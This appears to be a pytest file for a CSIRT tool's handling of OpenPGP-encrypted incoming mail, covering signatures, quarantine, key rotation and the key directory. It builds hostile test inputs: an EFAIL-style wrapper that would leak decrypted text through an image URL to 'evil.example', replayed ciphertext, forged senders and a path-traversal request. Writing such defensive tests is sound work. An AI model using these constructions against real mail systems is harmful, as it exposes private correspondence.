# SPDX-License-Identifier: EUPL-1.2
"""Mail that people encrypt to the node: opened, compared with their key, and held in doubt."""

from __future__ import annotations

import shutil
import subprocess
from collections.abc import Callable
from email.message import EmailMessage
from pathlib import Path

import pytest
from pysequoia import Cert, SignatureMode, Tsk, encrypt, sign
from tests.cases.conftest import user
from tests.cases.persons.conftest import Outside, Writer

from brug.api.wellknown import key_directory, security_txt
from brug.cases import documents, files
from brug.cases.persons import joining, quarantine
from brug.cases.persons.quarantine import Shut
from brug.directory import mail_keys
from brug.directory.mail_keys import Key
from brug.formats import openpgp_mail
from brug.model.errors import Conflict, Forbidden, NotFound

PLAIN = b"Content-Type: text/plain; charset=utf-8\r\n\r\n"
VERA = Tsk.generate("Vera <vera@maker.example>")
OTHER = Tsk.generate("Other <other@maker.example>")


def key_of(outside: Outside) -> Key:
    with outside.database.system() as session:
        found = mail_keys.ensure(session)
    assert found is not None
    return found


def sealed(outside: Outside, content: bytes, by: Tsk | None = None) -> bytes:
    """Encrypted to the node, and signed inside."""
    cert = Cert.from_bytes(key_of(outside).text.encode())
    return bytes(encrypt(content, recipients=[cert], signer=by.signer() if by else None))


def mime(mail: EmailMessage, message: bytes, *beside: EmailMessage) -> EmailMessage:
    """As RFC 3156 has it; with something beside it, where it should stand alone."""
    head = [(name, value) for name, value in mail.items() if not name.lower().startswith("content")]
    made = EmailMessage()
    for name, value in head:
        made[name] = value
    made["Content-Type"] = 'multipart/encrypted; protocol="application/pgp-encrypted"'
    for kind, content in (
        ("pgp-encrypted", b"Version: 1\r\n"), ("octet-stream", message),
    ):  # fmt: skip
        part = EmailMessage()
        part.set_content(content, "application", kind, cte="7bit")
        made.attach(part)
    if not beside:
        return made
    outer = EmailMessage()
    for name, value in head:
        outer[name] = value
        del made[name]
    outer["Content-Type"] = "multipart/mixed"
    for one in (*beside, made):
        outer.attach(one)
    return outer


def page(text: str) -> EmailMessage:
    made = EmailMessage()
    made.set_content(text, "html")
    return made


def with_key(vera: Writer, pair: Tsk = VERA) -> None:
    with vera.outside.database.as_user(vera.outside.node.host) as session:
        key = str(pair.extract_certificate())
        joining.change(session, vera.number, "Vera", {"gpgkey": key})


def shown(vera: Writer) -> str:
    """What whoever leads the case sees of the mail that is held."""
    (held,) = vera.held()
    with vera.outside.database.as_user(vera.outside.node.host) as session:
        mail = quarantine.show(session, held.id).mail
    return mail.text if mail else ""


def release(vera: Writer) -> None:
    (held,) = vera.held()
    with vera.outside.database.as_user(vera.outside.node.host) as session:
        quarantine.release(session, held.id, {"because": "hers"})


def test_encrypted_mime_is_opened_with_its_files_and_what_is_outside_says_who(
    vera: Writer,
) -> None:
    inner = EmailMessage()
    inner["From"], inner["Subject"] = "mallory@evil.example", "forged inside"
    inner.set_content("Mine stopped too")
    inner.add_attachment(b"line\n", "application", "octet-stream", filename="pump.log")
    message = sealed(vera.outside, inner.as_bytes())
    assert vera.arrive(mime(vera.answer(), message)) == "taken"
    assert vera.texts() == ["Mine stopped too"]
    with vera.outside.database.as_user(vera.outside.node.host) as session:
        case = files.view(session, vera.number)[1]
    assert [one.act.name for one in documents.shown(case)] == ["pump.log"]


def test_inline_is_opened_where_it_is_all_there_is(vera: Writer) -> None:
    text = sealed(vera.outside, "Ook de mijne é".encode())
    assert vera.arrive(vera.answer(text.decode())) == "taken"
    assert vera.texts() == ["Ook de mijne é"]


def test_with_a_key_it_has_to_be_signed_inside_by_that_key(vera: Writer) -> None:
    with_key(vera)
    body = PLAIN + b"signed as PGP/MIME"
    signature = bytes(sign(VERA.signer(), body, mode=SignatureMode.DETACHED))
    signed = (
        b'Content-Type: multipart/signed; protocol="application/pgp-signature"; boundary="b"\r\n'
        b"\r\n--b\r\n" + body + b"\r\n--b\r\nContent-Type: application/pgp-signature\r\n\r\n"
        + signature + b"\r\n--b--\r\n"
    )  # fmt: skip
    mails = {
        "signed": sealed(vera.outside, PLAIN + b"signed", VERA),
        "signed as PGP/MIME": sealed(vera.outside, signed),
    }
    for message in mails.values():
        assert vera.arrive(mime(vera.answer(), message)) == "taken"
    assert vera.texts() == list(mails)
    unsigned = sealed(vera.outside, PLAIN + b"unsigned")
    assert vera.arrive(mime(vera.answer(), unsigned)) == "held"
    assert vera.reasons() == ["signature"]
    assert shown(vera) == "unsigned"
    assert vera.texts() == list(mails)


def test_by_an_unknown_key_it_stays_shut_until_the_key_is_known(vera: Writer) -> None:
    message = sealed(vera.outside, PLAIN + b"signed", VERA)
    assert vera.arrive(mime(vera.answer(), message)) == "held"
    assert vera.reasons() == ["signature"]
    assert shown(vera) == ""
    with pytest.raises(Shut):
        release(vera)
    with_key(vera, OTHER)
    assert shown(vera) == ""
    with_key(vera)
    assert shown(vera) == "signed"
    release(vera)
    assert vera.texts() == ["signed"]


def test_what_was_caught_is_opened_for_nobody_else_and_counts_once(
    outside: Outside, vera: Writer
) -> None:
    """Whoever caught an encrypted mail sends it on as part of a case of their own."""
    caught = sealed(outside, PLAIN + b"between Vera and the node, and nobody else")
    assert vera.arrive(mime(vera.answer(), caught)) == "taken"
    number = outside.open()
    listed = outside.invite(number, email="mallory@evil.example", name="Mallory")
    letter = outside.send(number)[0]
    mallory = Writer(outside, number, listed, letter)
    as_hers = mallory.answer(From="mallory@evil.example")
    assert mallory.arrive(mime(as_hers, caught)) == "held"
    assert mallory.reasons() == ["replayed"]
    assert shown(mallory) == ""
    with pytest.raises(Shut):
        release(mallory)
    assert mallory.texts() == []
    # Around it in a message of one's own: nothing that is within is opened.
    within = sealed(outside, PLAIN + b"look:\r\n\r\n" + caught)
    assert mallory.arrive(mime(mallory.answer(From="mallory@evil.example"), within)) == "held"
    assert "nested" in mallory.reasons()
    assert vera.arrive(mime(vera.answer(), caught)) == "held"
    assert vera.reasons() == ["replayed"]
    assert shown(vera) == "between Vera and the node, and nobody else"


def test_a_signed_mail_that_is_sent_once_more_is_held(vera: Writer) -> None:
    with_key(vera)
    message = sealed(vera.outside, PLAIN + b"yes, publish", VERA)
    assert vera.arrive(mime(vera.answer(), message)) == "taken"
    assert vera.arrive(mime(vera.answer(), message)) == "held"
    assert vera.reasons() == ["replayed"]
    again = sealed(vera.outside, PLAIN + b"yes, publish", VERA)
    assert vera.arrive(mime(vera.answer(), again)) == "taken"


Made = Callable[[Writer], EmailMessage]
MIXED: dict[str, tuple[str, Made]] = {
    "an image's address around it": (
        "mixed",
        lambda v: mime(
            v.answer(), sealed(v.outside, PLAIN + b"secret"),
            page('<img src="http://evil.example/'), page('">'),
        ),
    ),
    "text before it": (
        "mixed",
        lambda v: v.answer("hello\n" + sealed(v.outside, b"secret").decode()),
    ),
    "twice": (
        "mixed", lambda v: v.answer(sealed(v.outside, b"secret").decode() * 2),
    ),
    "as HTML": (
        "mixed", lambda v: _as_page(v.answer(), sealed(v.outside, b"secret").decode()),
    ),
    "to another key": (
        "encrypted",
        lambda v: mime(v.answer(), bytes(encrypt(
            PLAIN + b"secret", recipients=[OTHER.extract_certificate()]
        ))),
    ),
    "rubbish": ("tampered", lambda v: mime(v.answer(), b"secret")),
    "not a mail inside": ("unreadable", lambda v: mime(v.answer(), sealed(v.outside, b""))),
    "again inside": (
        "nested",
        lambda v: mime(v.answer(), sealed(v.outside, mime(
            EmailMessage(), sealed(v.outside, PLAIN + b"secret")
        ).as_bytes())),
    ),
    "HTML inside": (
        "html_only",
        lambda v: mime(v.answer(), sealed(v.outside, b"Content-Type: text/html\r\n\r\n<p>secret")),
    ),
    "nothing inside": ("empty", lambda v: mime(v.answer(), sealed(v.outside, PLAIN))),
}  # fmt: skip


def _as_page(mail: EmailMessage, text: str) -> EmailMessage:
    mail.set_content(f"<pre>{text}</pre>", "html")
    return mail


@pytest.mark.parametrize("name", MIXED)
def test_in_doubt_it_is_held_and_stays_shut(vera: Writer, name: str) -> None:
    reason, made = MIXED[name]
    assert vera.arrive(made(vera)) == "held"
    assert vera.reasons() == [reason]
    assert vera.texts() == []
    if reason != "html_only":
        assert "secret" not in shown(vera)


def test_of_another_sender_it_is_held_before_it_is_opened(vera: Writer) -> None:
    message = sealed(vera.outside, PLAIN + b"secret")
    assert vera.arrive(mime(vera.answer(From="m@evil.example"), message)) == "held"
    assert vera.reasons() == ["sender"]
    stray = mime(vera.answer(To="node@csirt.example", Subject="x", In_Reply_To="<a@b>"), message)
    assert vera.arrive(stray) == "held"
    with vera.outside.database.as_user(vera.outside.node.host) as session:
        held = next(one for one in quarantine.listed(session) if one.reason == "unknown")
        opened = quarantine.show(session, held.id)
        assert opened.mail is not None
        assert opened.mail.text == ""
        into = {"because": "hers", "case": vera.number, "person": "Vera"}
        quarantine.release(session, held.id, into)
    assert vera.texts() == ["secret"]


def test_a_new_key_takes_over_and_old_ones_open_until_they_are_destroyed(vera: Writer) -> None:
    outside = vera.outside
    old = key_of(outside)
    late = [sealed(outside, PLAIN + text) for text in (b"late", b"too late")]
    with outside.database.as_user(outside.node.host) as session, pytest.raises(Forbidden):
        mail_keys.replace(session)
    admin = user(outside.database, "admin@noordland.example", ["site_admin"])
    with outside.database.as_user(admin) as session:
        new = mail_keys.replace(session)
        with pytest.raises(Conflict):
            mail_keys.destroy(session, new.fingerprint)
    assert key_of(outside).fingerprint == new.fingerprint != old.fingerprint
    assert vera.arrive(mime(vera.answer(), late[0])) == "taken"
    with outside.database.as_user(admin) as session:
        mail_keys.destroy(session, old.fingerprint.lower())
        with pytest.raises(NotFound):
            mail_keys.destroy(session, old.fingerprint)
        told = {one.fingerprint: one.opens for one in mail_keys.listed(session)}
    assert told[new.fingerprint]
    assert not told[old.fingerprint]
    assert vera.arrive(mime(vera.answer(), late[1])) == "held"
    assert vera.reasons() == ["encrypted"]


def test_a_key_is_made_anew_when_addresses_change_or_its_end_is_near(vera: Writer) -> None:
    outside = vera.outside
    first = key_of(outside)
    outside.set(mail__inbound_address="cases@csirt.example")
    second = key_of(outside)
    assert second.addresses == ["cases@csirt.example", "node@csirt.example"]
    with outside.database.system() as session:
        session.execute(
            "UPDATE mail_key SET expires = now() + interval '80 days' WHERE fingerprint = %s",
            (second.fingerprint,),
        )
    outside.set(mail__inbound_address="")
    assert len({first.fingerprint, second.fingerprint, key_of(outside).fingerprint}) == 3
    outside.set(mail__inbound="")
    with outside.database.system() as session:
        assert mail_keys.ensure(session) is None


def test_letters_tell_the_key_and_ask_for_answers_at_its_address(vera: Writer) -> None:
    key = key_of(vera.outside)
    (invited,) = [one for one in vera.outside.box.messages if one is vera.letter]
    header = str(invited["Autocrypt"])
    assert header.startswith("addr=node@csirt.example; prefer-encrypt=mutual; keydata=")
    assert b"=?" not in invited.as_bytes().partition(b"\n\n")[0].partition(b"Autocrypt")[2]
    (brought,) = list(invited.iter_attachments())
    assert brought.get_content_type() == "application/pgp-keys"
    assert openpgp_mail.binary(str(brought.get_content(), "utf-8")) == openpgp_mail.binary(key.text)
    body = invited.get_body()
    assert body is not None
    assert key.fingerprint in str(body.get_content()).replace(" ", "")
    with_key(vera)
    vera.outside.say(vera.number, "news")
    (letter,) = vera.outside.send("ref")
    assert letter["Reply-To"] == "node@csirt.example"
    assert vera.arrive(_answered(vera, letter)) == "taken"
    assert vera.texts()[-1] == "by reference"


def _answered(vera: Writer, letter: EmailMessage) -> EmailMessage:
    """As a mail program answers: the subject is inside, and only the reference tells."""
    mail = vera.answer(To=letter["Reply-To"], In_Reply_To=letter["Message-ID"], Subject="...")
    return mime(mail, sealed(vera.outside, PLAIN + b"by reference", VERA))


def test_gnupg_encrypts_to_the_key_and_is_understood(vera: Writer, tmp_path: Path) -> None:
    gpg = shutil.which("gpg")
    assert gpg
    run = [gpg, "--homedir", str(tmp_path), "--batch", "--no-autostart", "--trust-model", "always"]
    key = key_of(vera.outside)
    tmp_path.chmod(0o700)
    subprocess.run([*run, "--import"], input=key.text.encode(), check=True, capture_output=True)
    done = subprocess.run(
        [*run, "--armor", "--encrypt", "--recipient", "node@csirt.example"],
        input=PLAIN + b"from GnuPG", check=True, capture_output=True,
    )  # fmt: skip
    assert vera.arrive(mime(vera.answer(), done.stdout)) == "taken"
    hidden = subprocess.run(
        [*run, "--armor", "--encrypt", "--hidden-recipient", "node@csirt.example"],
        input=b"and hidden", check=True, capture_output=True,
    )  # fmt: skip
    assert vera.arrive(vera.answer(hidden.stdout.decode())) == "taken"
    assert vera.texts() == ["from GnuPG", "and hidden"]


def test_the_directory_has_the_key_by_both_ways_and_nothing_else(vera: Writer) -> None:
    vera.outside.set(mail__inbound_address="Joe.Doe@Example.ORG")
    key, folder = key_of(vera.outside), key_directory.FOLDER
    hash_ = "iy9q119eutrkn8s1mk4r39qejnbu3n5q"  # the example of the draft (3.1)
    there = {
        f"{folder}hu/{hash_}": "l=Joe.Doe", f"{folder}example.org/hu/{hash_}": "l=joe.doe",
        f"{folder}hu/{openpgp_mail.directory_name('NODE')}": "",
    }  # fmt: skip
    absent = {
        f"{folder}hu/{hash_}": "l=other", f"{folder}csirt.example/hu/{hash_}": "",
        f"{folder}hu/{'y' * 32}": "", f"{folder}other.example/policy": "", folder: "",
        f"{folder}hu/": "", f"{folder}hu/{hash_}/x": "", f"{folder}../hu/{hash_}": "",
    }  # fmt: skip
    with vera.outside.database.system() as session:
        for path, query in there.items():
            kind, content = key_directory.served(session, path, query)
            assert (kind, content) == ("application/octet-stream", openpgp_mail.binary(key.text))
        for path in (f"{folder}policy", f"{folder}example.org/policy"):
            assert key_directory.served(session, path, "") == ("text/plain", b"")
        assert key_directory.served(session, f"{folder}mail.asc", "")[1] == key.text.encode()
        for path, query in absent.items():
            with pytest.raises(NotFound) as refused:
                key_directory.served(session, path, query)
            assert refused.value.public == "There is no key at this address."
    vera.outside.set(mail__inbound_address="", cases__intake=True)
    with vera.outside.database.system() as session:
        lines = security_txt.document(session).decode().splitlines()
    assert "Encryption: http://node.example/.well-known/openpgpkey/mail.asc" in lines
    vera.outside.set(cases__intake=False)


def test_secrets_stand_in_no_table(vera: Writer) -> None:
    key_of(vera.outside)
    with vera.outside.database.system() as session:
        secrets = mail_keys.secrets(session)
        rows = str(session.all("SELECT k::text FROM mail_key k"))
    assert secrets
    assert not any(one.hex() in rows for one in secrets)
    assert "PRIVATE" not in rows
